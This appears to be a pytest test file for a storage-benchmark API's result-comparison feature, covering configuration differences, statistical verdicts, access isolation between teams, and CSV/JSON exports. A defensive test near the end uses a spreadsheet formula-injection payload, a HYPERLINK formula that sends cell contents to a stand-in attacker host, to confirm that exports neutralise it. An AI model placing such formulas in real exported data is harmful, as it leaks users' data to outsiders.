"""Comparing imported results side by side: differences first, deltas, verdicts, bad input, teams."""

import csv
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from storbench_api.compare.schemas import ComparisonOut
from tests.compare.outputs import shaped, template
from tests.conftest import Caller, make_caller


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    return template(tmp_path_factory.mktemp("fio-template"))


def imported(client: TestClient, caller: Caller, content: str, **form: str) -> dict[str, Any]:
    """Import one output; its one result."""
    files = {"file": ("out.json", content.encode(), "application/json")}
    response = client.post("/api/v1/results/import", files=files, data=form, headers=caller.headers)
    assert response.status_code == 201, response.text
    result: dict[str, Any] = response.json()["results"][0]
    return result


def series(
    client: TestClient, caller: Caller, base: dict[str, Any], label: str, iops: list[float], **shape: Any
) -> list[int]:
    """Repetitions imported under one label; their ids."""
    return [
        imported(client, caller, shaped(base, iops=v, timestamp=1_700_000_000 + i, **shape), label=label)[
            "id"
        ]
        for i, v in enumerate(iops)
    ]


def compare(client: TestClient, caller: Caller, ids: list[int], baseline: int | None = None) -> Any:
    query = f"ids={','.join(map(str, ids))}" + (f"&baseline={baseline}" if baseline else "")
    return client.get(f"/api/v1/compare?{query}", headers=caller.headers)


def cell(body: dict[str, Any], figure: str, side: int, direction: str = "read") -> dict[str, Any]:
    row = next(r for r in body["rows"] if r["figure"] == figure and r["direction"] == direction)
    found: dict[str, Any] = row["cells"][side]
    return found


def test_results_measured_differently_show_what_differs_before_the_numbers(
    client: TestClient, owner: Caller, base: dict[str, Any]
) -> None:
    a = imported(client, owner, shaped(base, iops=10_000, bs="4k"), label="disk A")
    b = imported(client, owner, shaped(base, iops=8_000, bs="64k", fio_version="fio-3.36"), label="disk B")
    response = compare(client, owner, [a["id"], b["id"]])
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["identical"] is False
    differing = {d["key"]: d["values"] for d in body["differences"]}
    assert differing["job.bs"] == ["4096", "65536"]
    assert differing["fio_version"] == ["fio-3.33", "fio-3.36"]
    assert "job.iodepth" not in differing  # equal on both sides
    # Before the numbers: the response lists differences ahead of rows, and the UI shows them first.
    assert list(body).index("differences") < list(body).index("rows")
    iops = cell(body, "iops", 1)
    assert iops["value"] == 8_000
    assert iops["delta"] == -2_000
    assert iops["delta_pct"] == pytest.approx(-20.0)
    assert iops["verdict"]["text"].startswith("too few on one side (n = 1 vs 1): repeat")
    assert cell(body, "iops", 0)["verdict"] is None  # the baseline itself
    assert body["permalink"] == f"/compare?ids={a['id']},{b['id']}&baseline={a['id']}"


def test_the_same_options_written_differently_compare_as_identical(
    client: TestClient, owner: Caller, base: dict[str, Any]
) -> None:
    a = imported(client, owner, shaped(base, iops=10_000, bs="4k"), label="x")
    b = imported(client, owner, shaped(base, iops=10_500, bs="4096", name="other-name"), label="y")
    assert a["id"] != b["id"]
    body = compare(client, owner, [a["id"], b["id"]]).json()
    assert body["differences"] == []
    assert body["identical"] is True


def test_repetitions_that_clearly_differ_are_changed_with_test_p_and_interval(
    client: TestClient, owner: Caller, base: dict[str, Any]
) -> None:
    before = series(client, owner, base, "before", [10_000, 10_100, 9_950, 10_050, 9_900])
    after = series(client, owner, base, "after", [12_000, 12_150, 11_900, 12_050, 12_100])
    body = compare(client, owner, before + after, baseline=before[0]).json()
    assert [s["n"] for s in body["sides"]] == [5, 5]
    assert [s["series"] for s in body["sides"]] == ["before", "after"]
    verdict = cell(body, "iops", 1)["verdict"]
    assert verdict["kind"] == "better"
    assert verdict["test"] == "welch_t_log" and "log values" in verdict["test_reason"]
    assert verdict["p_value"] < 0.05
    assert verdict["ci_low"] <= verdict["ratio"] <= verdict["ci_high"]
    assert verdict["ci_low"] > 1.1
    assert verdict["text"].startswith("better") and "Welch's t-test on log values p" in verdict["text"]
    # Latency went down with it: lower is better for latency figures.
    lat_row = next(r for r in body["rows"] if r["figure"] == "lat_mean_ns")
    assert lat_row["higher_is_better"] is False
    assert lat_row["cells"][1]["verdict"]["kind"] == "better"


def test_repetitions_within_a_few_percent_are_no_change(
    client: TestClient, owner: Caller, base: dict[str, Any]
) -> None:
    one = series(client, owner, base, "monday", [10_000, 10_300, 9_800, 10_150, 9_900])
    two = series(client, owner, base, "tuesday", [10_100, 9_850, 10_250, 9_950, 10_050])
    verdict = cell(compare(client, owner, one + two).json(), "iops", 1)["verdict"]
    assert verdict["kind"] == "no_change"
    assert verdict["p_value"] >= 0.05
    assert verdict["ci_low"] <= 1 <= verdict["ci_high"]


@pytest.mark.parametrize(
    ("query", "status", "words"),
    [
        ("ids=abc", 422, "ids"),
        ("ids=", 422, "ids"),
        ("ids=1,2&baseline=3", 422, "baseline"),
        ("ids=" + ",".join(str(i) for i in range(1, 202)), 422, "at most 200"),
        ("ids=2147483000", 404, "2147483000"),
    ],
)
def test_bad_ids_are_refused_with_what_to_fix(
    client: TestClient, owner: Caller, query: str, status: int, words: str
) -> None:
    response = client.get(f"/api/v1/compare?{query}", headers=owner.headers)
    assert response.status_code == status, response.text
    assert words in json.dumps(response.json())


def test_another_teams_results_are_not_found(
    client: TestClient, db: Session, owner: Caller, base: dict[str, Any]
) -> None:
    mine = imported(client, owner, shaped(base, iops=1_000), label="mine")["id"]
    stranger = make_caller(db)
    theirs = imported(client, stranger, shaped(base, iops=2_000), label="theirs")["id"]
    response = compare(client, owner, [mine, theirs])
    assert response.status_code == 404
    assert str(theirs) in response.json()["message"]
    assert compare(client, stranger, [theirs]).status_code == 200
    export = client.get(f"/api/v1/compare/export?ids={mine},{theirs}", headers=owner.headers)
    assert export.status_code == 404


def test_exports_round_trip_to_the_same_figures(
    client: TestClient, owner: Caller, base: dict[str, Any]
) -> None:
    before = series(client, owner, base, "fw 2.0", [10_000, 10_100, 9_950])
    after = series(client, owner, base, "fw 2.1", [11_000, 11_200, 10_900])
    ids = ",".join(map(str, before + after))
    shown = client.get(f"/api/v1/compare?ids={ids}", headers=owner.headers).json()

    as_json = client.get(f"/api/v1/compare/export?ids={ids}&format=json", headers=owner.headers)
    assert as_json.status_code == 200
    assert as_json.headers["content-disposition"].startswith("attachment;")
    assert ComparisonOut.model_validate_json(as_json.content).model_dump(mode="json") == shown

    as_csv = client.get(f"/api/v1/compare/export?ids={ids}&format=csv", headers=owner.headers)
    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert 'filename="comparison-' in as_csv.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert len(rows) == sum(len(r["cells"]) for r in shown["rows"])
    for row in rows:
        figure_row = next(
            r for r in shown["rows"] if r["figure"] == row["figure"] and r["direction"] == row["direction"]
        )
        expected = figure_row["cells"][int(row["side"])]
        assert (float(row["value"]) if row["value"] else None) == expected["value"]
        assert [float(x) for x in row["samples"].split(";") if x] == expected["samples"]
        assert (float(row["delta_pct"]) if row["delta_pct"] else None) == expected["delta_pct"]
        verdict = expected["verdict"]
        assert (row["verdict"] or None) == (verdict["kind"] if verdict else None)
        assert (float(row["p_value"]) if row["p_value"] else None) == (
            verdict["p_value"] if verdict else None
        )
        side = shown["sides"][int(row["side"])]
        assert [int(x) for x in row["result_ids"].split(";")] == side["result_ids"]


# Text a spreadsheet would run as a formula (OWASP's list of first characters).
HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "+1", "-cmd", "@SUM(A1:A9)"]
# Leading tab and CR: a label is stripped on import, a job name keeps them.
HOSTILE_JOB_NAMES = ["\tx", "\rx"]


def test_csv_exports_neutralise_text_a_spreadsheet_would_run(
    client: TestClient, owner: Caller, base: dict[str, Any]
) -> None:
    # Each later side reads fewer IOPS than the baseline: its deltas are negative numbers.
    ids = [
        imported(
            client, owner, shaped(base, iops=10_000 - 1_000 * i, timestamp=1_700_000_000 + i), label=label
        )["id"]
        for i, label in enumerate(HOSTILE)
    ]
    ids += [
        imported(client, owner, shaped(base, iops=5_000, name=name, timestamp=1_700_000_100 + i), label="ok")[
            "id"
        ]
        for i, name in enumerate(HOSTILE_JOB_NAMES)
    ]
    as_csv = client.get(
        f"/api/v1/compare/export?ids={','.join(map(str, ids))}&format=csv", headers=owner.headers
    )
    assert as_csv.status_code == 200, as_csv.text
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    # A leading ' makes the cell text in Excel, LibreOffice and Sheets; the cell is quoted in the file.
    assert {"'" + label for label in HOSTILE} <= {row["series"] for row in rows}
    assert {"'" + name for name in HOSTILE_JOB_NAMES} <= {row["job_name"] for row in rows}
    for text in HOSTILE + HOSTILE_JOB_NAMES:
        assert "\"'" + text.replace('"', '""') in as_csv.text
    # Numbers stay numbers, negative ones too.
    deltas = [row["delta_pct"] for row in rows if row["figure"] == "iops" and row["delta_pct"]]
    assert any(float(delta) < 0 for delta in deltas)
    assert all(not delta.startswith("'") for delta in deltas)

    query = f"by=label&figure=iops&direction=read&ids={','.join(map(str, ids))}&format=csv"
    grouped = client.get(f"/api/v1/compare/groups/export?{query}", headers=owner.headers)
    assert grouped.status_code == 200, grouped.text
    keys = {row["key"] for row in csv.DictReader(io.StringIO(grouped.text))}
    assert {"'" + label for label in HOSTILE} <= keys
